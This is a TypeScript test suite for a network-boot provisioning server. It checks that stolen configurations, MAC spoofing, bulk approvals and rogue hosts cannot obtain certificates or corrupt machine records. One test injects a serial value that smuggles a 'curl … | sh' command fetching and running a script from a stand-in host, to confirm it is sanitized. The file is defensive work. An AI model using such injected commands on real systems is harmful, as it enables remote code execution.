/** Attacks on approvals and on what operators accept. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Waiting } from '../../src/api/operations/machines.ts';
import type { Mac } from '../../src/base/mac.ts';
import { connectApi } from '../../src/cli/client.socket.ts';
import { Agent, filesIn, HTTP, scriptOf, sessionIn, takeLease } from './machine.ts';
import { ADDRESS, MACHINES, network, Rig, SERVER_MODE, VICTIM_MAC } from './rig.ts';

const FOREIGN_MACS = ['ac:1f:6b:00:00:01', 'ac:1f:6b:00:00:02'] as const;

const waitingAt = async (rig: Rig): Promise<readonly Waiting[]> => {
  const { items } = await connectApi(rig.muster.socket).call<{ items: readonly Waiting[] }>(
    'GET',
    '/v1/waiting?codes=true',
  );
  return items;
};

/** The files of the configuration that the machine at `vic` gets. */
async function configuration(rig: Rig): Promise<ReadonlyMap<string, string>> {
  const script = await scriptOf(rig, 'vic', VICTIM_MAC);
  const { body } = await rig.http('vic', `${HTTP}/boot/${sessionIn(script.body)}/user-data`);
  return filesIn(body);
}

describe('a machine of tier approved', () => {
  let rig: Rig;
  let mine: Agent;
  let thief: Agent;
  beforeAll(async () => {
    const approved = MACHINES.replace(
      `macs: ["${VICTIM_MAC}"], profile: node`,
      `macs: ["${VICTIM_MAC}"], profile: node, trust: approved`,
    );
    rig = await Rig.open(SERVER_MODE + approved);
    await takeLease(rig, 'vic', VICTIM_MAC);
    const files = await configuration(rig);
    mine = new Agent(rig, 'vic', files);
    // The thief has all that is in the machine's configuration, and asks from its address.
    thief = new Agent(rig, 'vic', files);
  });
  afterAll(async () => {
    mine.close();
    thief.close();
    await rig.close();
  });

  it('gives a thief who has its ticket and its address no certificate', async () => {
    expect((await thief.redeem()).status).toBe(202);
    expect((await thief.redeem()).status).toBe(202);
    await expect(rig.operator('machine', 'approve', 'cp1', '000-000')).rejects.toThrow('E_APPROVAL');
    expect((await thief.redeem()).status).toBe(202);
  });

  /** A key that was not asked for in half a minute waits no more: agents ask every two seconds. */
  async function ask(agent: Agent): Promise<string> {
    expect((await agent.redeem()).status).toBe(202);
    return (await waitingAt(rig)).find(({ key }) => key === agent.pin)!.code!;
  }

  it('does not let a thief search for a key with the code of the machine: each key has a nonce of its own', async () => {
    await ask(thief);
    const code = await ask(mine);
    const nonces: string[] = [];
    for (let n = 0; n < 8; n++) {
      thief.newKey();
      const { status, headers } = await thief.redeem();
      if (status === 202) nonces.push(/muster-nonce: (\S+)/.exec(headers)![1]!);
    }
    // Few keys of one address wait at a time, and the code of the machine stays.
    expect(nonces).toHaveLength(2);
    expect(new Set(nonces).size).toBe(2);
    const codes = (await waitingAt(rig)).map((one) => one.code);
    expect(codes).toHaveLength(4);
    expect(codes).toContain(code);
  });

  it('is not approved with all others while a thief waits beside it', async () => {
    await thief.redeem();
    await ask(mine);
    await expect(rig.operator('machine', 'approve', '--all', '--cluster', 'one')).rejects.toThrow(
      'several keys wait for one machine',
    );
  });

  it('gets its certificate by its code, and the thief an alarm', async () => {
    const code = await ask(mine);
    expect(await rig.operator('machine', 'approve', 'cp1', code)).toBe('machine/cp1 approved\n');
    expect((await mine.redeem()).status).toBe(200);
    expect((await thief.redeem()).status).toBe(409);
    // The code is used up, for every key.
    await expect(rig.operator('machine', 'approve', 'cp1', code)).rejects.toThrow('E_APPROVAL');
  });

  it('leaves who approved it in the security log, and its code nowhere', async () => {
    const log = await rig.operator('events', '--security');
    expect(log).toMatch(/machine\.approved/);
    expect(log).toMatch(/agent\.waiting/);
    for (const { code } of await waitingAt(rig)) expect(log).not.toContain(code!);
  });
});

describe('where another server gives the addresses', () => {
  let rig: Rig;
  beforeAll(async () => {
    rig = await Rig.open(network('{mode: proxy}') + MACHINES);
  });
  afterAll(() => rig.close());

  it('somebody on the segment who asks for a control plane waits for an approval and gets nothing', async () => {
    const script = await scriptOf(rig, 'atk', VICTIM_MAC);
    const session = sessionIn(script.body)!;
    const { body } = await rig.http('atk', `${HTTP}/boot/${session}/user-data`);
    const agent = new Agent(rig, 'atk', filesIn(body));
    try {
      const answer = await agent.redeem();
      expect(answer.status).toBe(202);
      expect(answer.headers).toContain('muster-hold: approval');
      expect(await waitingAt(rig)).toMatchObject([
        {
          machine: 'cp1',
          address: ADDRESS.atk,
          known: false,
          trust: { tier: 'segment', from: 'Cluster/one' },
        },
      ]);
      expect(await rig.operator('get', 'machines')).toMatch(/^cp1 .*approval/m);
    } finally {
      agent.close();
    }
  });
});

describe('an unknown machine', () => {
  let rig: Rig;
  const OWN = '52:54:00:66:66:01' as Mac;
  beforeAll(async () => {
    rig = await Rig.open();
  });
  afterAll(() => rig.close());

  it('that claims the addresses of others and a serial full of shell gets neither into its document', async () => {
    await takeLease(rig, 'atk', OWN);
    const serial = encodeURIComponent('X;curl -s http://198.51.100.2/p|sh;#');
    const macs = encodeURIComponent([OWN, ...FOREIGN_MACS].join(','));
    await rig.http(
      'atk',
      `${HTTP}/script.ipxe?mac=${OWN}&macs=${macs}&serial=${serial}&arch=x86_64&platform=pcbios`,
    );
    await rig.operator('machine', 'accept', 'm-525400666601', '--profile', 'node', '--name', 'evil');
    const { spec } = JSON.parse(await rig.operator('get', 'machine', 'evil', '-o', 'json')) as {
      spec: { macs: string[]; serial?: string };
    };
    expect(spec.macs).toEqual([OWN]);
    expect(spec.serial ?? '').toMatch(/^[A-Za-z0-9 ._:/+-]*$/);
    // A new machine with one of those addresses is not taken for it.
    const explained = await rig.operator('explain', FOREIGN_MACS[0]);
    expect(explained).not.toContain('evil');
  });
});
